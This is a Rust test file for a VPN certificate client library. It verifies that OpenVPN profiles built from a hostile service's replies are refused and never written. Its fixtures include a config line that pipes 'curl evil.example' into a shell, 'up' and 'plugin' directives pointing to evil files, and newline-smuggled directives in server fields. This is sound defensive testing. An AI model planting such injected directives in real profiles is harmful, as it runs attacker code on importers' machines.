//! Profiles built from what a hostile service answers: nothing it sends may make a written
//! profile run code on the machines that import it, and nothing is written when it tries.

mod support;

use std::path::Path;
use std::time::Duration;

use support::{Reply, Scripted};
use vpncert::{Client, Credentials, Error, IssueClientCert, RetryPolicy};

fn client(url: &str) -> Client {
    Client::builder()
        .region_id("cn-hangzhou")
        .credentials(Credentials::access_key("testid", "testsecret"))
        .endpoint(url)
        .retry_policy(RetryPolicy {
            max_retries: 0,
            base_delay: Duration::from_millis(5),
            max_delay: Duration::from_millis(10),
            deadline: Duration::from_secs(10),
            ..RetryPolicy::default()
        })
        .build()
        .unwrap()
}

fn bundle_body(client_config: &str) -> String {
    serde_json::json!({
        "RequestId": "R-describe",
        "RegionId": "cn-hangzhou",
        "SslVpnClientCertId": "vsc-1",
        "SslVpnServerId": "vss-1",
        "Name": "alice",
        "CaCert": "-----BEGIN CERTIFICATE-----\nCA\n-----END CERTIFICATE-----\n",
        "ClientCert": "-----BEGIN CERTIFICATE-----\nCLIENT\n-----END CERTIFICATE-----\n",
        "ClientKey": "-----BEGIN PRIVATE KEY-----\nKEY\n-----END PRIVATE KEY-----\n",
        "ClientConfig": client_config,
        "CreateTime": 1_700_000_000_000u64,
        "EndTime": 1_800_000_000_000u64,
        "Status": "normal",
    })
    .to_string()
}

const CREATED: &str = r#"{"RequestId":"R-create","Name":"alice","SslVpnClientCertId":"vsc-1"}"#;

const HOSTILE_CONFIG: &str = "client\ndev tun\nremote 47.1.2.3 1194\nscript-security 2\nup \"/bin/sh -c 'curl evil.example | sh'\"\nverb 3\n";

fn scratch() -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "vpncert-profile-security-{}",
        uuid::Uuid::new_v4().simple()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn assert_empty(dir: &Path) {
    let left: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert!(left.is_empty(), "nothing written: {left:?}");
}

fn assert_refused(e: Error, parameter: &str, words: &[&str]) {
    match e {
        Error::InvalidInput {
            parameter: p,
            reason,
        } => {
            assert_eq!(p, parameter, "{reason}");
            for w in words {
                assert!(reason.contains(w), "{w:?} missing from {reason}");
            }
        }
        other => panic!("expected InvalidInput for {parameter}, got {other:?}"),
    }
}

#[test]
fn a_described_profile_that_runs_a_program_is_not_written() {
    let api = Scripted::start(vec![Reply::json(200, &bundle_body(HOSTILE_CONFIG))]);
    let bundle = client(&api.url)
        .describe_ssl_vpn_client_cert("vsc-1")
        .unwrap();
    let dir = scratch();
    let path = dir.join("alice.ovpn");
    let e = bundle.write_ovpn(&path, false).unwrap_err();
    assert_refused(e, "ClientConfig", &["line 4", "`script-security`"]);
    assert_empty(&dir);
    assert_refused(bundle.to_ovpn().unwrap_err(), "ClientConfig", &["line 4"]);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn an_issued_profile_that_runs_a_program_is_not_written() {
    let api = Scripted::start(vec![
        Reply::json(200, CREATED),
        Reply::json(
            200,
            &bundle_body("client\nremote 47.1.2.3 1194\n<connection>\nremote 47.1.2.4 443\n--up /tmp/evil.sh\n</connection>\n"),
        ),
    ]);
    let bundle = client(&api.url)
        .issue_client_cert(&IssueClientCert::new("vss-1", "alice"))
        .unwrap();
    let dir = scratch();
    let e = bundle
        .write_ovpn(dir.join("alice.ovpn"), false)
        .unwrap_err();
    assert_refused(e, "ClientConfig", &["line 5", "`up`", "runs a program"]);
    assert_empty(&dir);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn server_settings_that_inject_directives_are_not_written() {
    let servers = |field: &str, value: &str| {
        let mut server = serde_json::json!({
            "SslVpnServerId": "vss-1", "InternetIp": "47.1.2.3", "Proto": "UDP", "Port": 1194,
            "Cipher": "AES-128-CBC", "Compress": false,
        });
        server[field] = value.into();
        serde_json::json!({
            "RequestId": "R-servers", "PageNumber": 1, "PageSize": 1, "TotalCount": 1,
            "SslVpnServers": {"SslVpnServer": [server]},
        })
        .to_string()
    };
    for (field, value) in [
        (
            "InternetIp",
            "47.1.2.3 1194\nscript-security 2\nup /tmp/evil.sh\n#",
        ),
        ("Proto", "udp\nplugin /tmp/evil.so"),
        ("Cipher", "AES-128-CBC\nup /tmp/evil.sh"),
    ] {
        let api = Scripted::start(vec![
            Reply::json(200, CREATED),
            Reply::json(200, &bundle_body("")),
            Reply::json(200, &servers(field, value)),
        ]);
        let bundle = client(&api.url)
            .issue_client_cert(&IssueClientCert::new("vss-1", "alice"))
            .unwrap();
        assert!(
            bundle.server.is_some(),
            "the server's settings were fetched"
        );
        let dir = scratch();
        let e = bundle
            .write_ovpn(dir.join("alice.ovpn"), false)
            .unwrap_err();
        assert_refused(e, field, &["refusing"]);
        assert_empty(&dir);
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
